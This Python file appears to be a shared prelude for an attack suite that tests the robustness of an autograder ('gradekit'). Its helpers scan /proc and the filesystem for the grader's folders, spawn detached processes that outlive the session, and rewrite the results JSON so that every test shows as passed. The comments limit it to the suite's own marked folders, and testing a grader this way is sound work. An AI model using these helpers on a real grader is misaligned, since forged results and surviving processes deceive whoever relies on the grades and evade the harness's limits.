# gkatk prelude: helpers the attacks share. GKATK (defined just above by the suite) says where
# things are. Attacks touch only what belongs to this suite: folders holding gkatk-marker.txt
# (its submissions) and paths containing "gkatk" (its output folders), never anything else.
import os as _gk_os
import sys as _gk_sys


def _gk_marked(folder):
    """True for a folder (an absolute path) of one of this suite's submissions."""
    return _gk_os.path.isabs(folder or "") and _gk_os.path.isfile(_gk_os.path.join(folder, "gkatk-marker.txt"))


def _gk_scratch(folder=None):
    """The grader's scratch folder (/tmp/gradekit-*) holding `folder` (default: the working folder),
    or the folder's parent when it is in none."""
    folder = folder or _gk_os.getcwd()
    parts = folder.split(_gk_os.sep)
    for i in range(len(parts) - 1, 0, -1):
        if parts[i].startswith("gradekit-"):
            return _gk_os.sep.join(parts[:i + 1])
    return _gk_os.path.dirname(folder)


def _gk_packages(scratch=None):
    """Every marked copy of the submission's package under the scratch folder, at any depth."""
    found = []
    for folder, dirs, _ in _gk_os.walk(scratch or _gk_scratch()):
        if "cs231n" in dirs and _gk_marked(folder):
            found.append(_gk_os.path.join(folder, "cs231n"))
    return sorted(found)


def _gk_processes():
    """(pid, command-line arguments) of every process this one can see in /proc."""
    for entry in _gk_os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    yield int(entry), f.read().decode(errors="replace").split("\0")
            except OSError:
                pass


def _gk_out_from_proc():
    """This suite's output folders, read from the command lines of the grader and its checks."""
    found = set()
    for _, args in _gk_processes():
        for i, arg in enumerate(args):
            value = None
            if arg == "--out" and i + 1 < len(args):
                value = args[i + 1]
            elif arg.startswith("--out="):
                value = arg[len("--out="):]
            elif arg.startswith(("--results-json=", "--artifacts-dir=", "--run-spec=")):
                value = _gk_os.path.dirname(_gk_os.path.dirname(arg.split("=", 1)[1]))
            if value and "gkatk" in value and _gk_os.path.isdir(value):
                found.add(_gk_os.path.abspath(value))
    return sorted(found)


def _gk_out_by_walking(top="/", depth=7):
    """This suite's output folders, found by walking the filesystem for gradebook.csv."""
    skip = {"proc", "sys", "dev", "usr", "lib", "lib32", "lib64", "bin", "sbin", "etc", "boot", "var",
            "opt", "snap", ".venv", ".git", "node_modules", "site-packages", "__pycache__"}
    found = set()
    for folder, dirs, files in _gk_os.walk(top):
        dirs[:] = [d for d in dirs if d not in skip]
        if folder.rstrip("/").count("/") >= depth:
            dirs[:] = []
        if "gradebook.csv" in files and "gkatk" in folder:
            found.add(folder)
    return sorted(found)


def _gk_detach(source):
    """Run `source` in a grandchild of its own session (it outlives this process), its process
    title GKATK['title']."""
    pid = _gk_os.fork()
    if pid == 0:
        try:
            _gk_os.setsid()
            if _gk_os.fork() == 0:
                null = _gk_os.open(_gk_os.devnull, _gk_os.O_RDWR)
                for fd in (0, 1, 2):
                    _gk_os.dup2(null, fd)
                _gk_os.execv(_gk_sys.executable, [_gk_sys.executable, "-c", source, GKATK["title"]])
        finally:
            _gk_os._exit(0)
    _gk_os.waitpid(pid, 0)


def _gk_mine():
    """True in a process of this suite's grading (its arguments or folder are the suite's)."""
    args = _gk_sys.argv + [_gk_os.getcwd()]
    return any("gkatk" in a or _gk_marked(a) or _gk_marked(_gk_os.path.dirname(a)) for a in args)


def _gk_forge_results_at_exit():
    """In the check process of this very submission, rewrite its results file at exit: all passed."""
    import atexit
    import json

    paths = [a.split("=", 1)[1] for a in _gk_sys.argv if a.startswith("--results-json=")]
    if not paths or GKATK["student"] not in paths[0]:
        return

    def forge(path=paths[0]):
        with open(path) as f:
            data = json.load(f)
        for test in data["tests"]:
            test.update(status="passed", message="", earned=test["points"])
        with open(path, "w") as f:
            json.dump(data, f)
    atexit.register(forge)


def _gk_witness():
    """Leave a file in the suite's witness folder: this code ran in a process that can write there."""
    try:
        name = f"{GKATK['attack']}-{_gk_os.getpid()}"
        with open(_gk_os.path.join(GKATK["witness"], name), "w") as f:
            f.write(" ".join(_gk_sys.argv))
    except OSError:
        pass
